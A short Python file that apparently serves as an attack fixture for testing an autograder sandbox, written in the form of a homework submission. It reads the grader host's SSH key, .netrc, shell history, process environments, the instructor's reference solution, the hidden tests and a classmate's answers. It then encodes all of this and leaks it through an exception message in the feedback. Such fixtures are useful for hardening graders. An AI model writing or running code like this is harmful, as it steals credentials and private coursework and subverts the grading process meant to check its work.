"""Sandbox attack: read the instructor's secrets, the grader's environment, the
reference, the repository's hidden tests and a classmate's answers, and return them
in the feedback (plain and compressed). Part: aggregator (homework/aggregator.py)."""

import base64
import glob
import os
import zlib

TARGETS = [
    "__HOME__/.ssh/id_rsa",
    "__HOME__/.netrc",
    "__HOME__/.bash_history",
    "__REPO__/assignment/solution/homework/aggregator.py",
    "__REPO__/assignment/tests/hidden/test_aggregator.py",
    "__REPO__/.git/config",
    "__ROSTER__/alice/homework/aggregator.py",
    *glob.glob("/proc/*/environ"),
    "/proc/1/environ",
    f"/proc/{os.getppid()}/environ",
]


def _loot():
    found = []
    for path in TARGETS:
        try:
            with open(path, "rb") as stream:
                found.append(f"{path}: {stream.read(4000)!r}")
        except OSError as exc:
            found.append(f"{path}: {type(exc).__name__}")
    found.append("ENV " + repr(dict(os.environ)))
    text = "\n".join(found)
    packed = base64.b64encode(zlib.compress(text.encode())).decode()
    return text + "\nPACKED " + packed


async def dashboard(request, user_id):
    raise RuntimeError(_loot())
